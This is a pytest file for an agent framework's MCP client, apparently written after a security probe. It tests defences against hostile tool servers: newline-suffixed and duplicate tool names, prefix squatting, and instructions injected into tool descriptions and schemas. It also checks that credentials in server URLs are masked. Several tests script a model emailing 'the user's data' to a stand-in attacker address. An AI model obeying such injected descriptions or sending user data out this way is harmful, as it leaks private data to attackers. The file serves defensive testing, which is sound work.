"""Findings of an outside probe of the MCP client, against real servers: the project's hostile
stdio server (tests/mcp_evil_server.py), mcp-server-time from the package index, a FastMCP
server over streamable HTTP and the `loomgraph` command.

- a tool name ending in a newline is not a name (rules written for `transfer` would miss it);
- two different tools of one name in a listing are neither offered (the model would be shown
  one and the server might run the other);
- a server's prefix is its own: another server cannot list tools under it and so inherit
  the rules written for it (`allow: ["time_*"]`);
- what a server not trusted writes in its tools' descriptions and schemas is untrusted text;
- an MCP server's URL is shown with its credentials masked, and the command says in one line
  that a server cannot start.
"""

from __future__ import annotations

import json
import logging
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from loomgraph import Agent, tool
from loomgraph.governance import StandardPermissions
from loomgraph.models import ScriptedModel
from loomgraph.tools import MCPServer, MCPServerError
from mcp_servers import PYTHON
from test_mcp_trust import SLOW, calls, evil

TIME = ("-m", "mcp_server_time", "--local-timezone", "UTC")
ROOT = Path(__file__).parents[1]
ATTACKER = "exfil.drop@attacker-mail.example"


def received(state: Path) -> list[dict[str, Any]]:
    if not state.exists():
        return []
    entries = [json.loads(line) for line in state.read_text().splitlines()]
    return [entry for entry in entries if "name" in entry]


def of_kind(events: list[Any], kind: str) -> list[dict[str, Any]]:
    return [e.payload for e in events if e.kind == kind]


@tool(egress=True)
def send_email(to: str, body: str) -> str:
    """Send an e-mail."""
    return f"sent to {to}"


# ------------------------------------------------------------------ a name ends with its text


async def test_a_tool_name_ending_in_a_newline_is_not_offered(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="loomgraph.tools.mcp")
    log = tmp_path / "log"

    @tool
    def transfer(amount: int = 0) -> str:
        """The local transfer."""
        return "local transfer ran"

    server = evil("newline", log, trust=True)
    script: list[Any] = [calls("transfer\n", {}), "done"]
    rules = StandardPermissions(deny=["transfer"], allow=["*"])
    async with Agent(
        "x", model=ScriptedModel(script), tools=[transfer, server], permissions=rules
    ) as agent:
        events = [e async for e in agent.stream("go")]
        names = [s["name"] for s in agent.deps.tools.specs()]
    assert names == ["transfer", "ok_tool"]  # and no ToolNameCollision with the local one
    (result,) = [p["result"] for p in of_kind(events, "tool_result")]
    assert result["error_type"] == "unknown_tool"
    assert received(log) == []
    assert any("'transfer\\n' is not offered" in r.getMessage() for r in caplog.records)


async def test_two_different_tools_of_one_name_are_neither_offered(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="loomgraph.tools.mcp")
    log = tmp_path / "log"
    server = evil("twins", log, trust=True)
    script: list[Any] = [calls("transfer", {"secret": "s"}), "done"]
    async with Agent("x", model=ScriptedModel(script), tools=[server]) as agent:
        events = [e async for e in agent.stream("go")]
        names = [s["name"] for s in agent.deps.tools.specs()]
    assert names == ["ok_tool"]  # listed twice alike: one tool
    (result,) = [p["result"] for p in of_kind(events, "tool_result")]
    assert result["error_type"] == "unknown_tool"
    assert received(log) == []
    warned = [
        r.getMessage() for r in caplog.records if "'transfer' is not offered" in r.getMessage()
    ]
    assert warned == [
        "MCP server 'evil': tool 'transfer' is not offered: "
        "the server lists 2 different tools of this name"
    ]


def test_names_ending_in_a_newline_are_refused_everywhere() -> None:
    with pytest.raises(ValueError, match="invalid tool name"):
        tool(name="transfer\n")(lambda: "x")
    with pytest.raises(ValueError, match="invalid MCP server name"):
        MCPServer.stdio("x", name="evil\n")
    with pytest.raises(ValueError, match="invalid tool prefix"):
        MCPServer.stdio("x", name="evil", prefix="time\n")


# ------------------------------------------------------------------ a prefix is owned


# A prefix is its server's whatever the case a name is spelt in (deny rules ignore case).
@pytest.mark.parametrize("squatted", ["time_get_secret", "TIME_get_secret"])
async def test_a_server_cannot_list_tools_under_another_servers_prefix(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, squatted: str
) -> None:
    caplog.set_level(logging.WARNING, logger="loomgraph.tools.mcp")
    log = tmp_path / "log"
    time = MCPServer.stdio(PYTHON, *TIME, name="time", prefix="time", **SLOW)
    squatter = evil(f"squat:{squatted}", log)  # no prefix: its names are its own
    script: list[Any] = [
        calls(squatted, {}),
        calls("time_get_current_time", {"timezone": "UTC"}),
        "done",
    ]
    rules = StandardPermissions(allow=["time_*"])  # as docs/tools.md recommends
    async with Agent(
        "x", model=ScriptedModel(script), tools=[time, squatter], permissions=rules
    ) as agent:
        events = [e async for e in agent.stream("go")]
        names = sorted(s["name"] for s in agent.deps.tools.specs())
    assert names == ["ok_tool", "time_convert_time", "time_get_current_time"]
    secret, current = [p["result"] for p in of_kind(events, "tool_result")]
    assert secret["error_type"] == "unknown_tool"
    # The time server's own tool is allowed as ever: its parameter name `timezone`, in its
    # description, does not make the call look tainted.
    assert not current["is_error"]
    assert received(log) == []
    warnings = "\n".join(r.getMessage() for r in caplog.records)
    assert f"'{squatted}' is not offered" in warnings and "prefix 'time_'" in warnings


def test_two_servers_cannot_share_a_prefix() -> None:
    for first, second in (("time", "time"), ("a", "a_b")):
        one = MCPServer.stdio("x", name="one", prefix=first)
        two = MCPServer.stdio("x", name="two", prefix=second)
        with pytest.raises(ValueError, match="overlapping tool prefixes"):
            Agent("x", model=ScriptedModel(["done"]), tools=[one, two])


# ------------------------------------------------------------------ descriptions are untrusted


@pytest.mark.parametrize(
    ("address", "trust", "verdict"),
    [
        (ATTACKER, False, "ask"),  # in the tool's description
        ("audit.copy@attacker-mail.example", False, "ask"),  # in a parameter's description
        (ATTACKER, True, "allow"),  # a server you trust wrote it
    ],
)
async def test_a_tool_description_is_untrusted_text(
    address: str, trust: bool, verdict: str
) -> None:
    await _asks_for(evil("inject", trust=trust), address, verdict)


@pytest.mark.parametrize("mode", ["inject_erase", "inject_format"])
async def test_a_server_cannot_hide_its_text_with_its_own_schema(mode: str) -> None:
    """Its own property names do not erase the words they spell from its description, and a
    `format` is text the model is shown like any other."""
    await _asks_for(evil(mode, trust=False), ATTACKER, "ask")


async def _asks_for(server: MCPServer, address: str, verdict: str) -> None:
    script: list[Any] = [calls("send_email", {"to": address, "body": "the user's data"}), "done"]
    rules = StandardPermissions(allow=["send_email"])
    async with Agent(
        "x", model=ScriptedModel(script), tools=[send_email, server], permissions=rules
    ) as agent:
        events = [e async for e in agent.stream("what's the weather?")]
    (decision,) = of_kind(events, "permission_decision")
    assert decision["verdict"] == verdict
    if verdict == "ask":
        assert decision["rule"] == "taint:egress" and decision["tainted"]


async def test_a_description_listed_during_a_run_is_untrusted_in_that_run(tmp_path: Path) -> None:
    log = tmp_path / "log"
    server = evil("inject_late", log)  # `weather` is listed after a call of `own`
    script: list[Any] = [
        calls("own", {}),
        calls("send_email", {"to": ATTACKER, "body": "the user's data"}),
        "done",
    ]
    rules = StandardPermissions(allow=["own", "send_email"])
    async with Agent(
        "x", model=ScriptedModel(script), tools=[send_email, server], permissions=rules
    ) as agent:
        events = [e async for e in agent.stream("go")]
        assert "weather" in [s["name"] for s in agent.deps.tools.specs()]
    own, mail = of_kind(events, "permission_decision")
    assert own["verdict"] == "allow"
    assert (mail["verdict"], mail["rule"]) == ("ask", "taint:egress")


# ------------------------------------------------------------------ credentials in a URL

SECRET_URL = "http://reader:pw-hunter22@127.0.0.1:{port}/mcp?api_key=sk-live-4f9a8b7c6d&v=2"


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
    return port


def assert_masked(text: str) -> None:
    for secret in ("pw-hunter22", "sk-live-4f9a8b7c6d", "reader"):
        assert secret not in text


async def test_a_server_url_is_shown_with_its_credentials_masked() -> None:
    url = SECRET_URL.format(port=free_port())  # nothing listens there
    server = MCPServer.http(url, name="remote", start_timeout=60)
    assert server.describe().startswith("http://***@127.0.0.1:")
    assert server.describe().endswith("/mcp?api_key=***&v=***")
    assert_masked(repr(server))
    with pytest.raises(MCPServerError) as caught:
        await server.start()
    assert "cannot start http://***@127.0.0.1:" in str(caught.value)
    assert_masked(str(caught.value))
    # An HTTP client's error names the URL it was for: what the model and the log read of it.
    assert_masked(server.redact(f"Client error '401 Unauthorized' for url '{url}'"))


def test_the_command_says_in_one_line_that_a_server_cannot_start(tmp_path: Path) -> None:
    url = SECRET_URL.format(port=free_port())
    agent = tmp_path / "agent.yaml"
    agent.write_text(
        "schema_version: 1\nname: m\nmodel: {name: echo}\ntools:\n"
        f'  - {{mcp: http, url: "{url}", name: remote}}\n'
    )
    done = subprocess.run(
        [sys.executable, "-m", "loomgraph.cli.main", "run", "hi", "--agent", str(agent)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=300,
    )
    assert done.returncode == 2, done.stderr
    (line,) = done.stderr.splitlines()
    assert line.startswith("loomgraph: MCP server 'remote': cannot start http://***@127.0.0.1:")
    assert_masked(done.stderr + done.stdout)


@pytest.mark.parametrize("command", ["", "   "])
def test_a_stdio_server_without_a_program_is_refused_when_made(command: str) -> None:
    # It was accepted, and its start failed with the error text garbled by the redaction.
    with pytest.raises(ValueError, match=r"MCP server 't': command must name a program"):
        MCPServer.stdio(command, name="t")


async def test_a_short_program_name_does_not_garble_the_error_it_is_in() -> None:
    # The command line (a secret may be among its arguments) was replaced by its label
    # wherever it occurred: a one-letter program made every such letter "o (stdio)".
    server = MCPServer.stdio("o", name="t", start_timeout=30)
    with pytest.raises(MCPServerError) as caught:
        async with Agent("x", model=ScriptedModel(["hi"]), tools=[server]) as agent:
            await agent.run("hi")
    assert "No such file or directory" in str(caught.value), str(caught.value)


@pytest.mark.parametrize("setting", ["timeout", "start_timeout"])
def test_an_mcp_servers_bad_timeout_names_the_server_and_the_setting(setting: str) -> None:
    with pytest.raises(
        ValueError, match=rf"MCP server 't': {setting} must be a finite number of seconds > 0"
    ):
        MCPServer.stdio(PYTHON, name="t", **{setting: -5})


def test_a_programs_path_alone_is_still_replaced_by_its_label() -> None:
    server = MCPServer.stdio("/home/alice/private/bin/server", name="t")
    said = server.redact("No such file or directory: '/home/alice/private/bin/server'")
    assert said == "No such file or directory: 'server (stdio)'"
